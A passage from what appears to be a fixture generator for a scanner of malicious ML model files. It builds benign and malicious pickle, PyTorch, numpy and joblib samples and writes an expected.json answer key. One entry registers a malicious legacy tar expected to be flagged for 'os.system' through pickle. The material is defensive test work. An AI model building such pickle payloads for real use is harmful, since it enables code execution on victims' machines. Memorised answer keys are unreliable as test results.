    fixture("malicious/torch_legacy_tar.tar", tar(obj_evil), "pytorch-tar", "malicious",
            [D("os.system", ["pickle"])])


def main():
    import shutil
    import tempfile
    if os.path.isdir(OUT):
        for sub in ("benign", "malicious"):
            shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    os.makedirs(OUT, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        zpath = real_files(tmp)
        torch_zips(zpath)
    malicious_pickles()
    legacy_torch()
    numpy_files()
    joblib_files()
    legacy_tar()
    FIXTURES.sort(key=lambda f: f["path"])
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump({"version": 1,
                   "note": "generated by tests/artifacts/generate.py: every finding each file must give "
                           "(check, subject, severity, member chain), its format and verdict",
                   "files": FIXTURES}, f, indent=1, sort_keys=True)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(OUT, x["path"])) for x in FIXTURES)
    print("%d fixtures, %d bytes" % (len(FIXTURES), total))


if __name__ == "__main__":
    main()
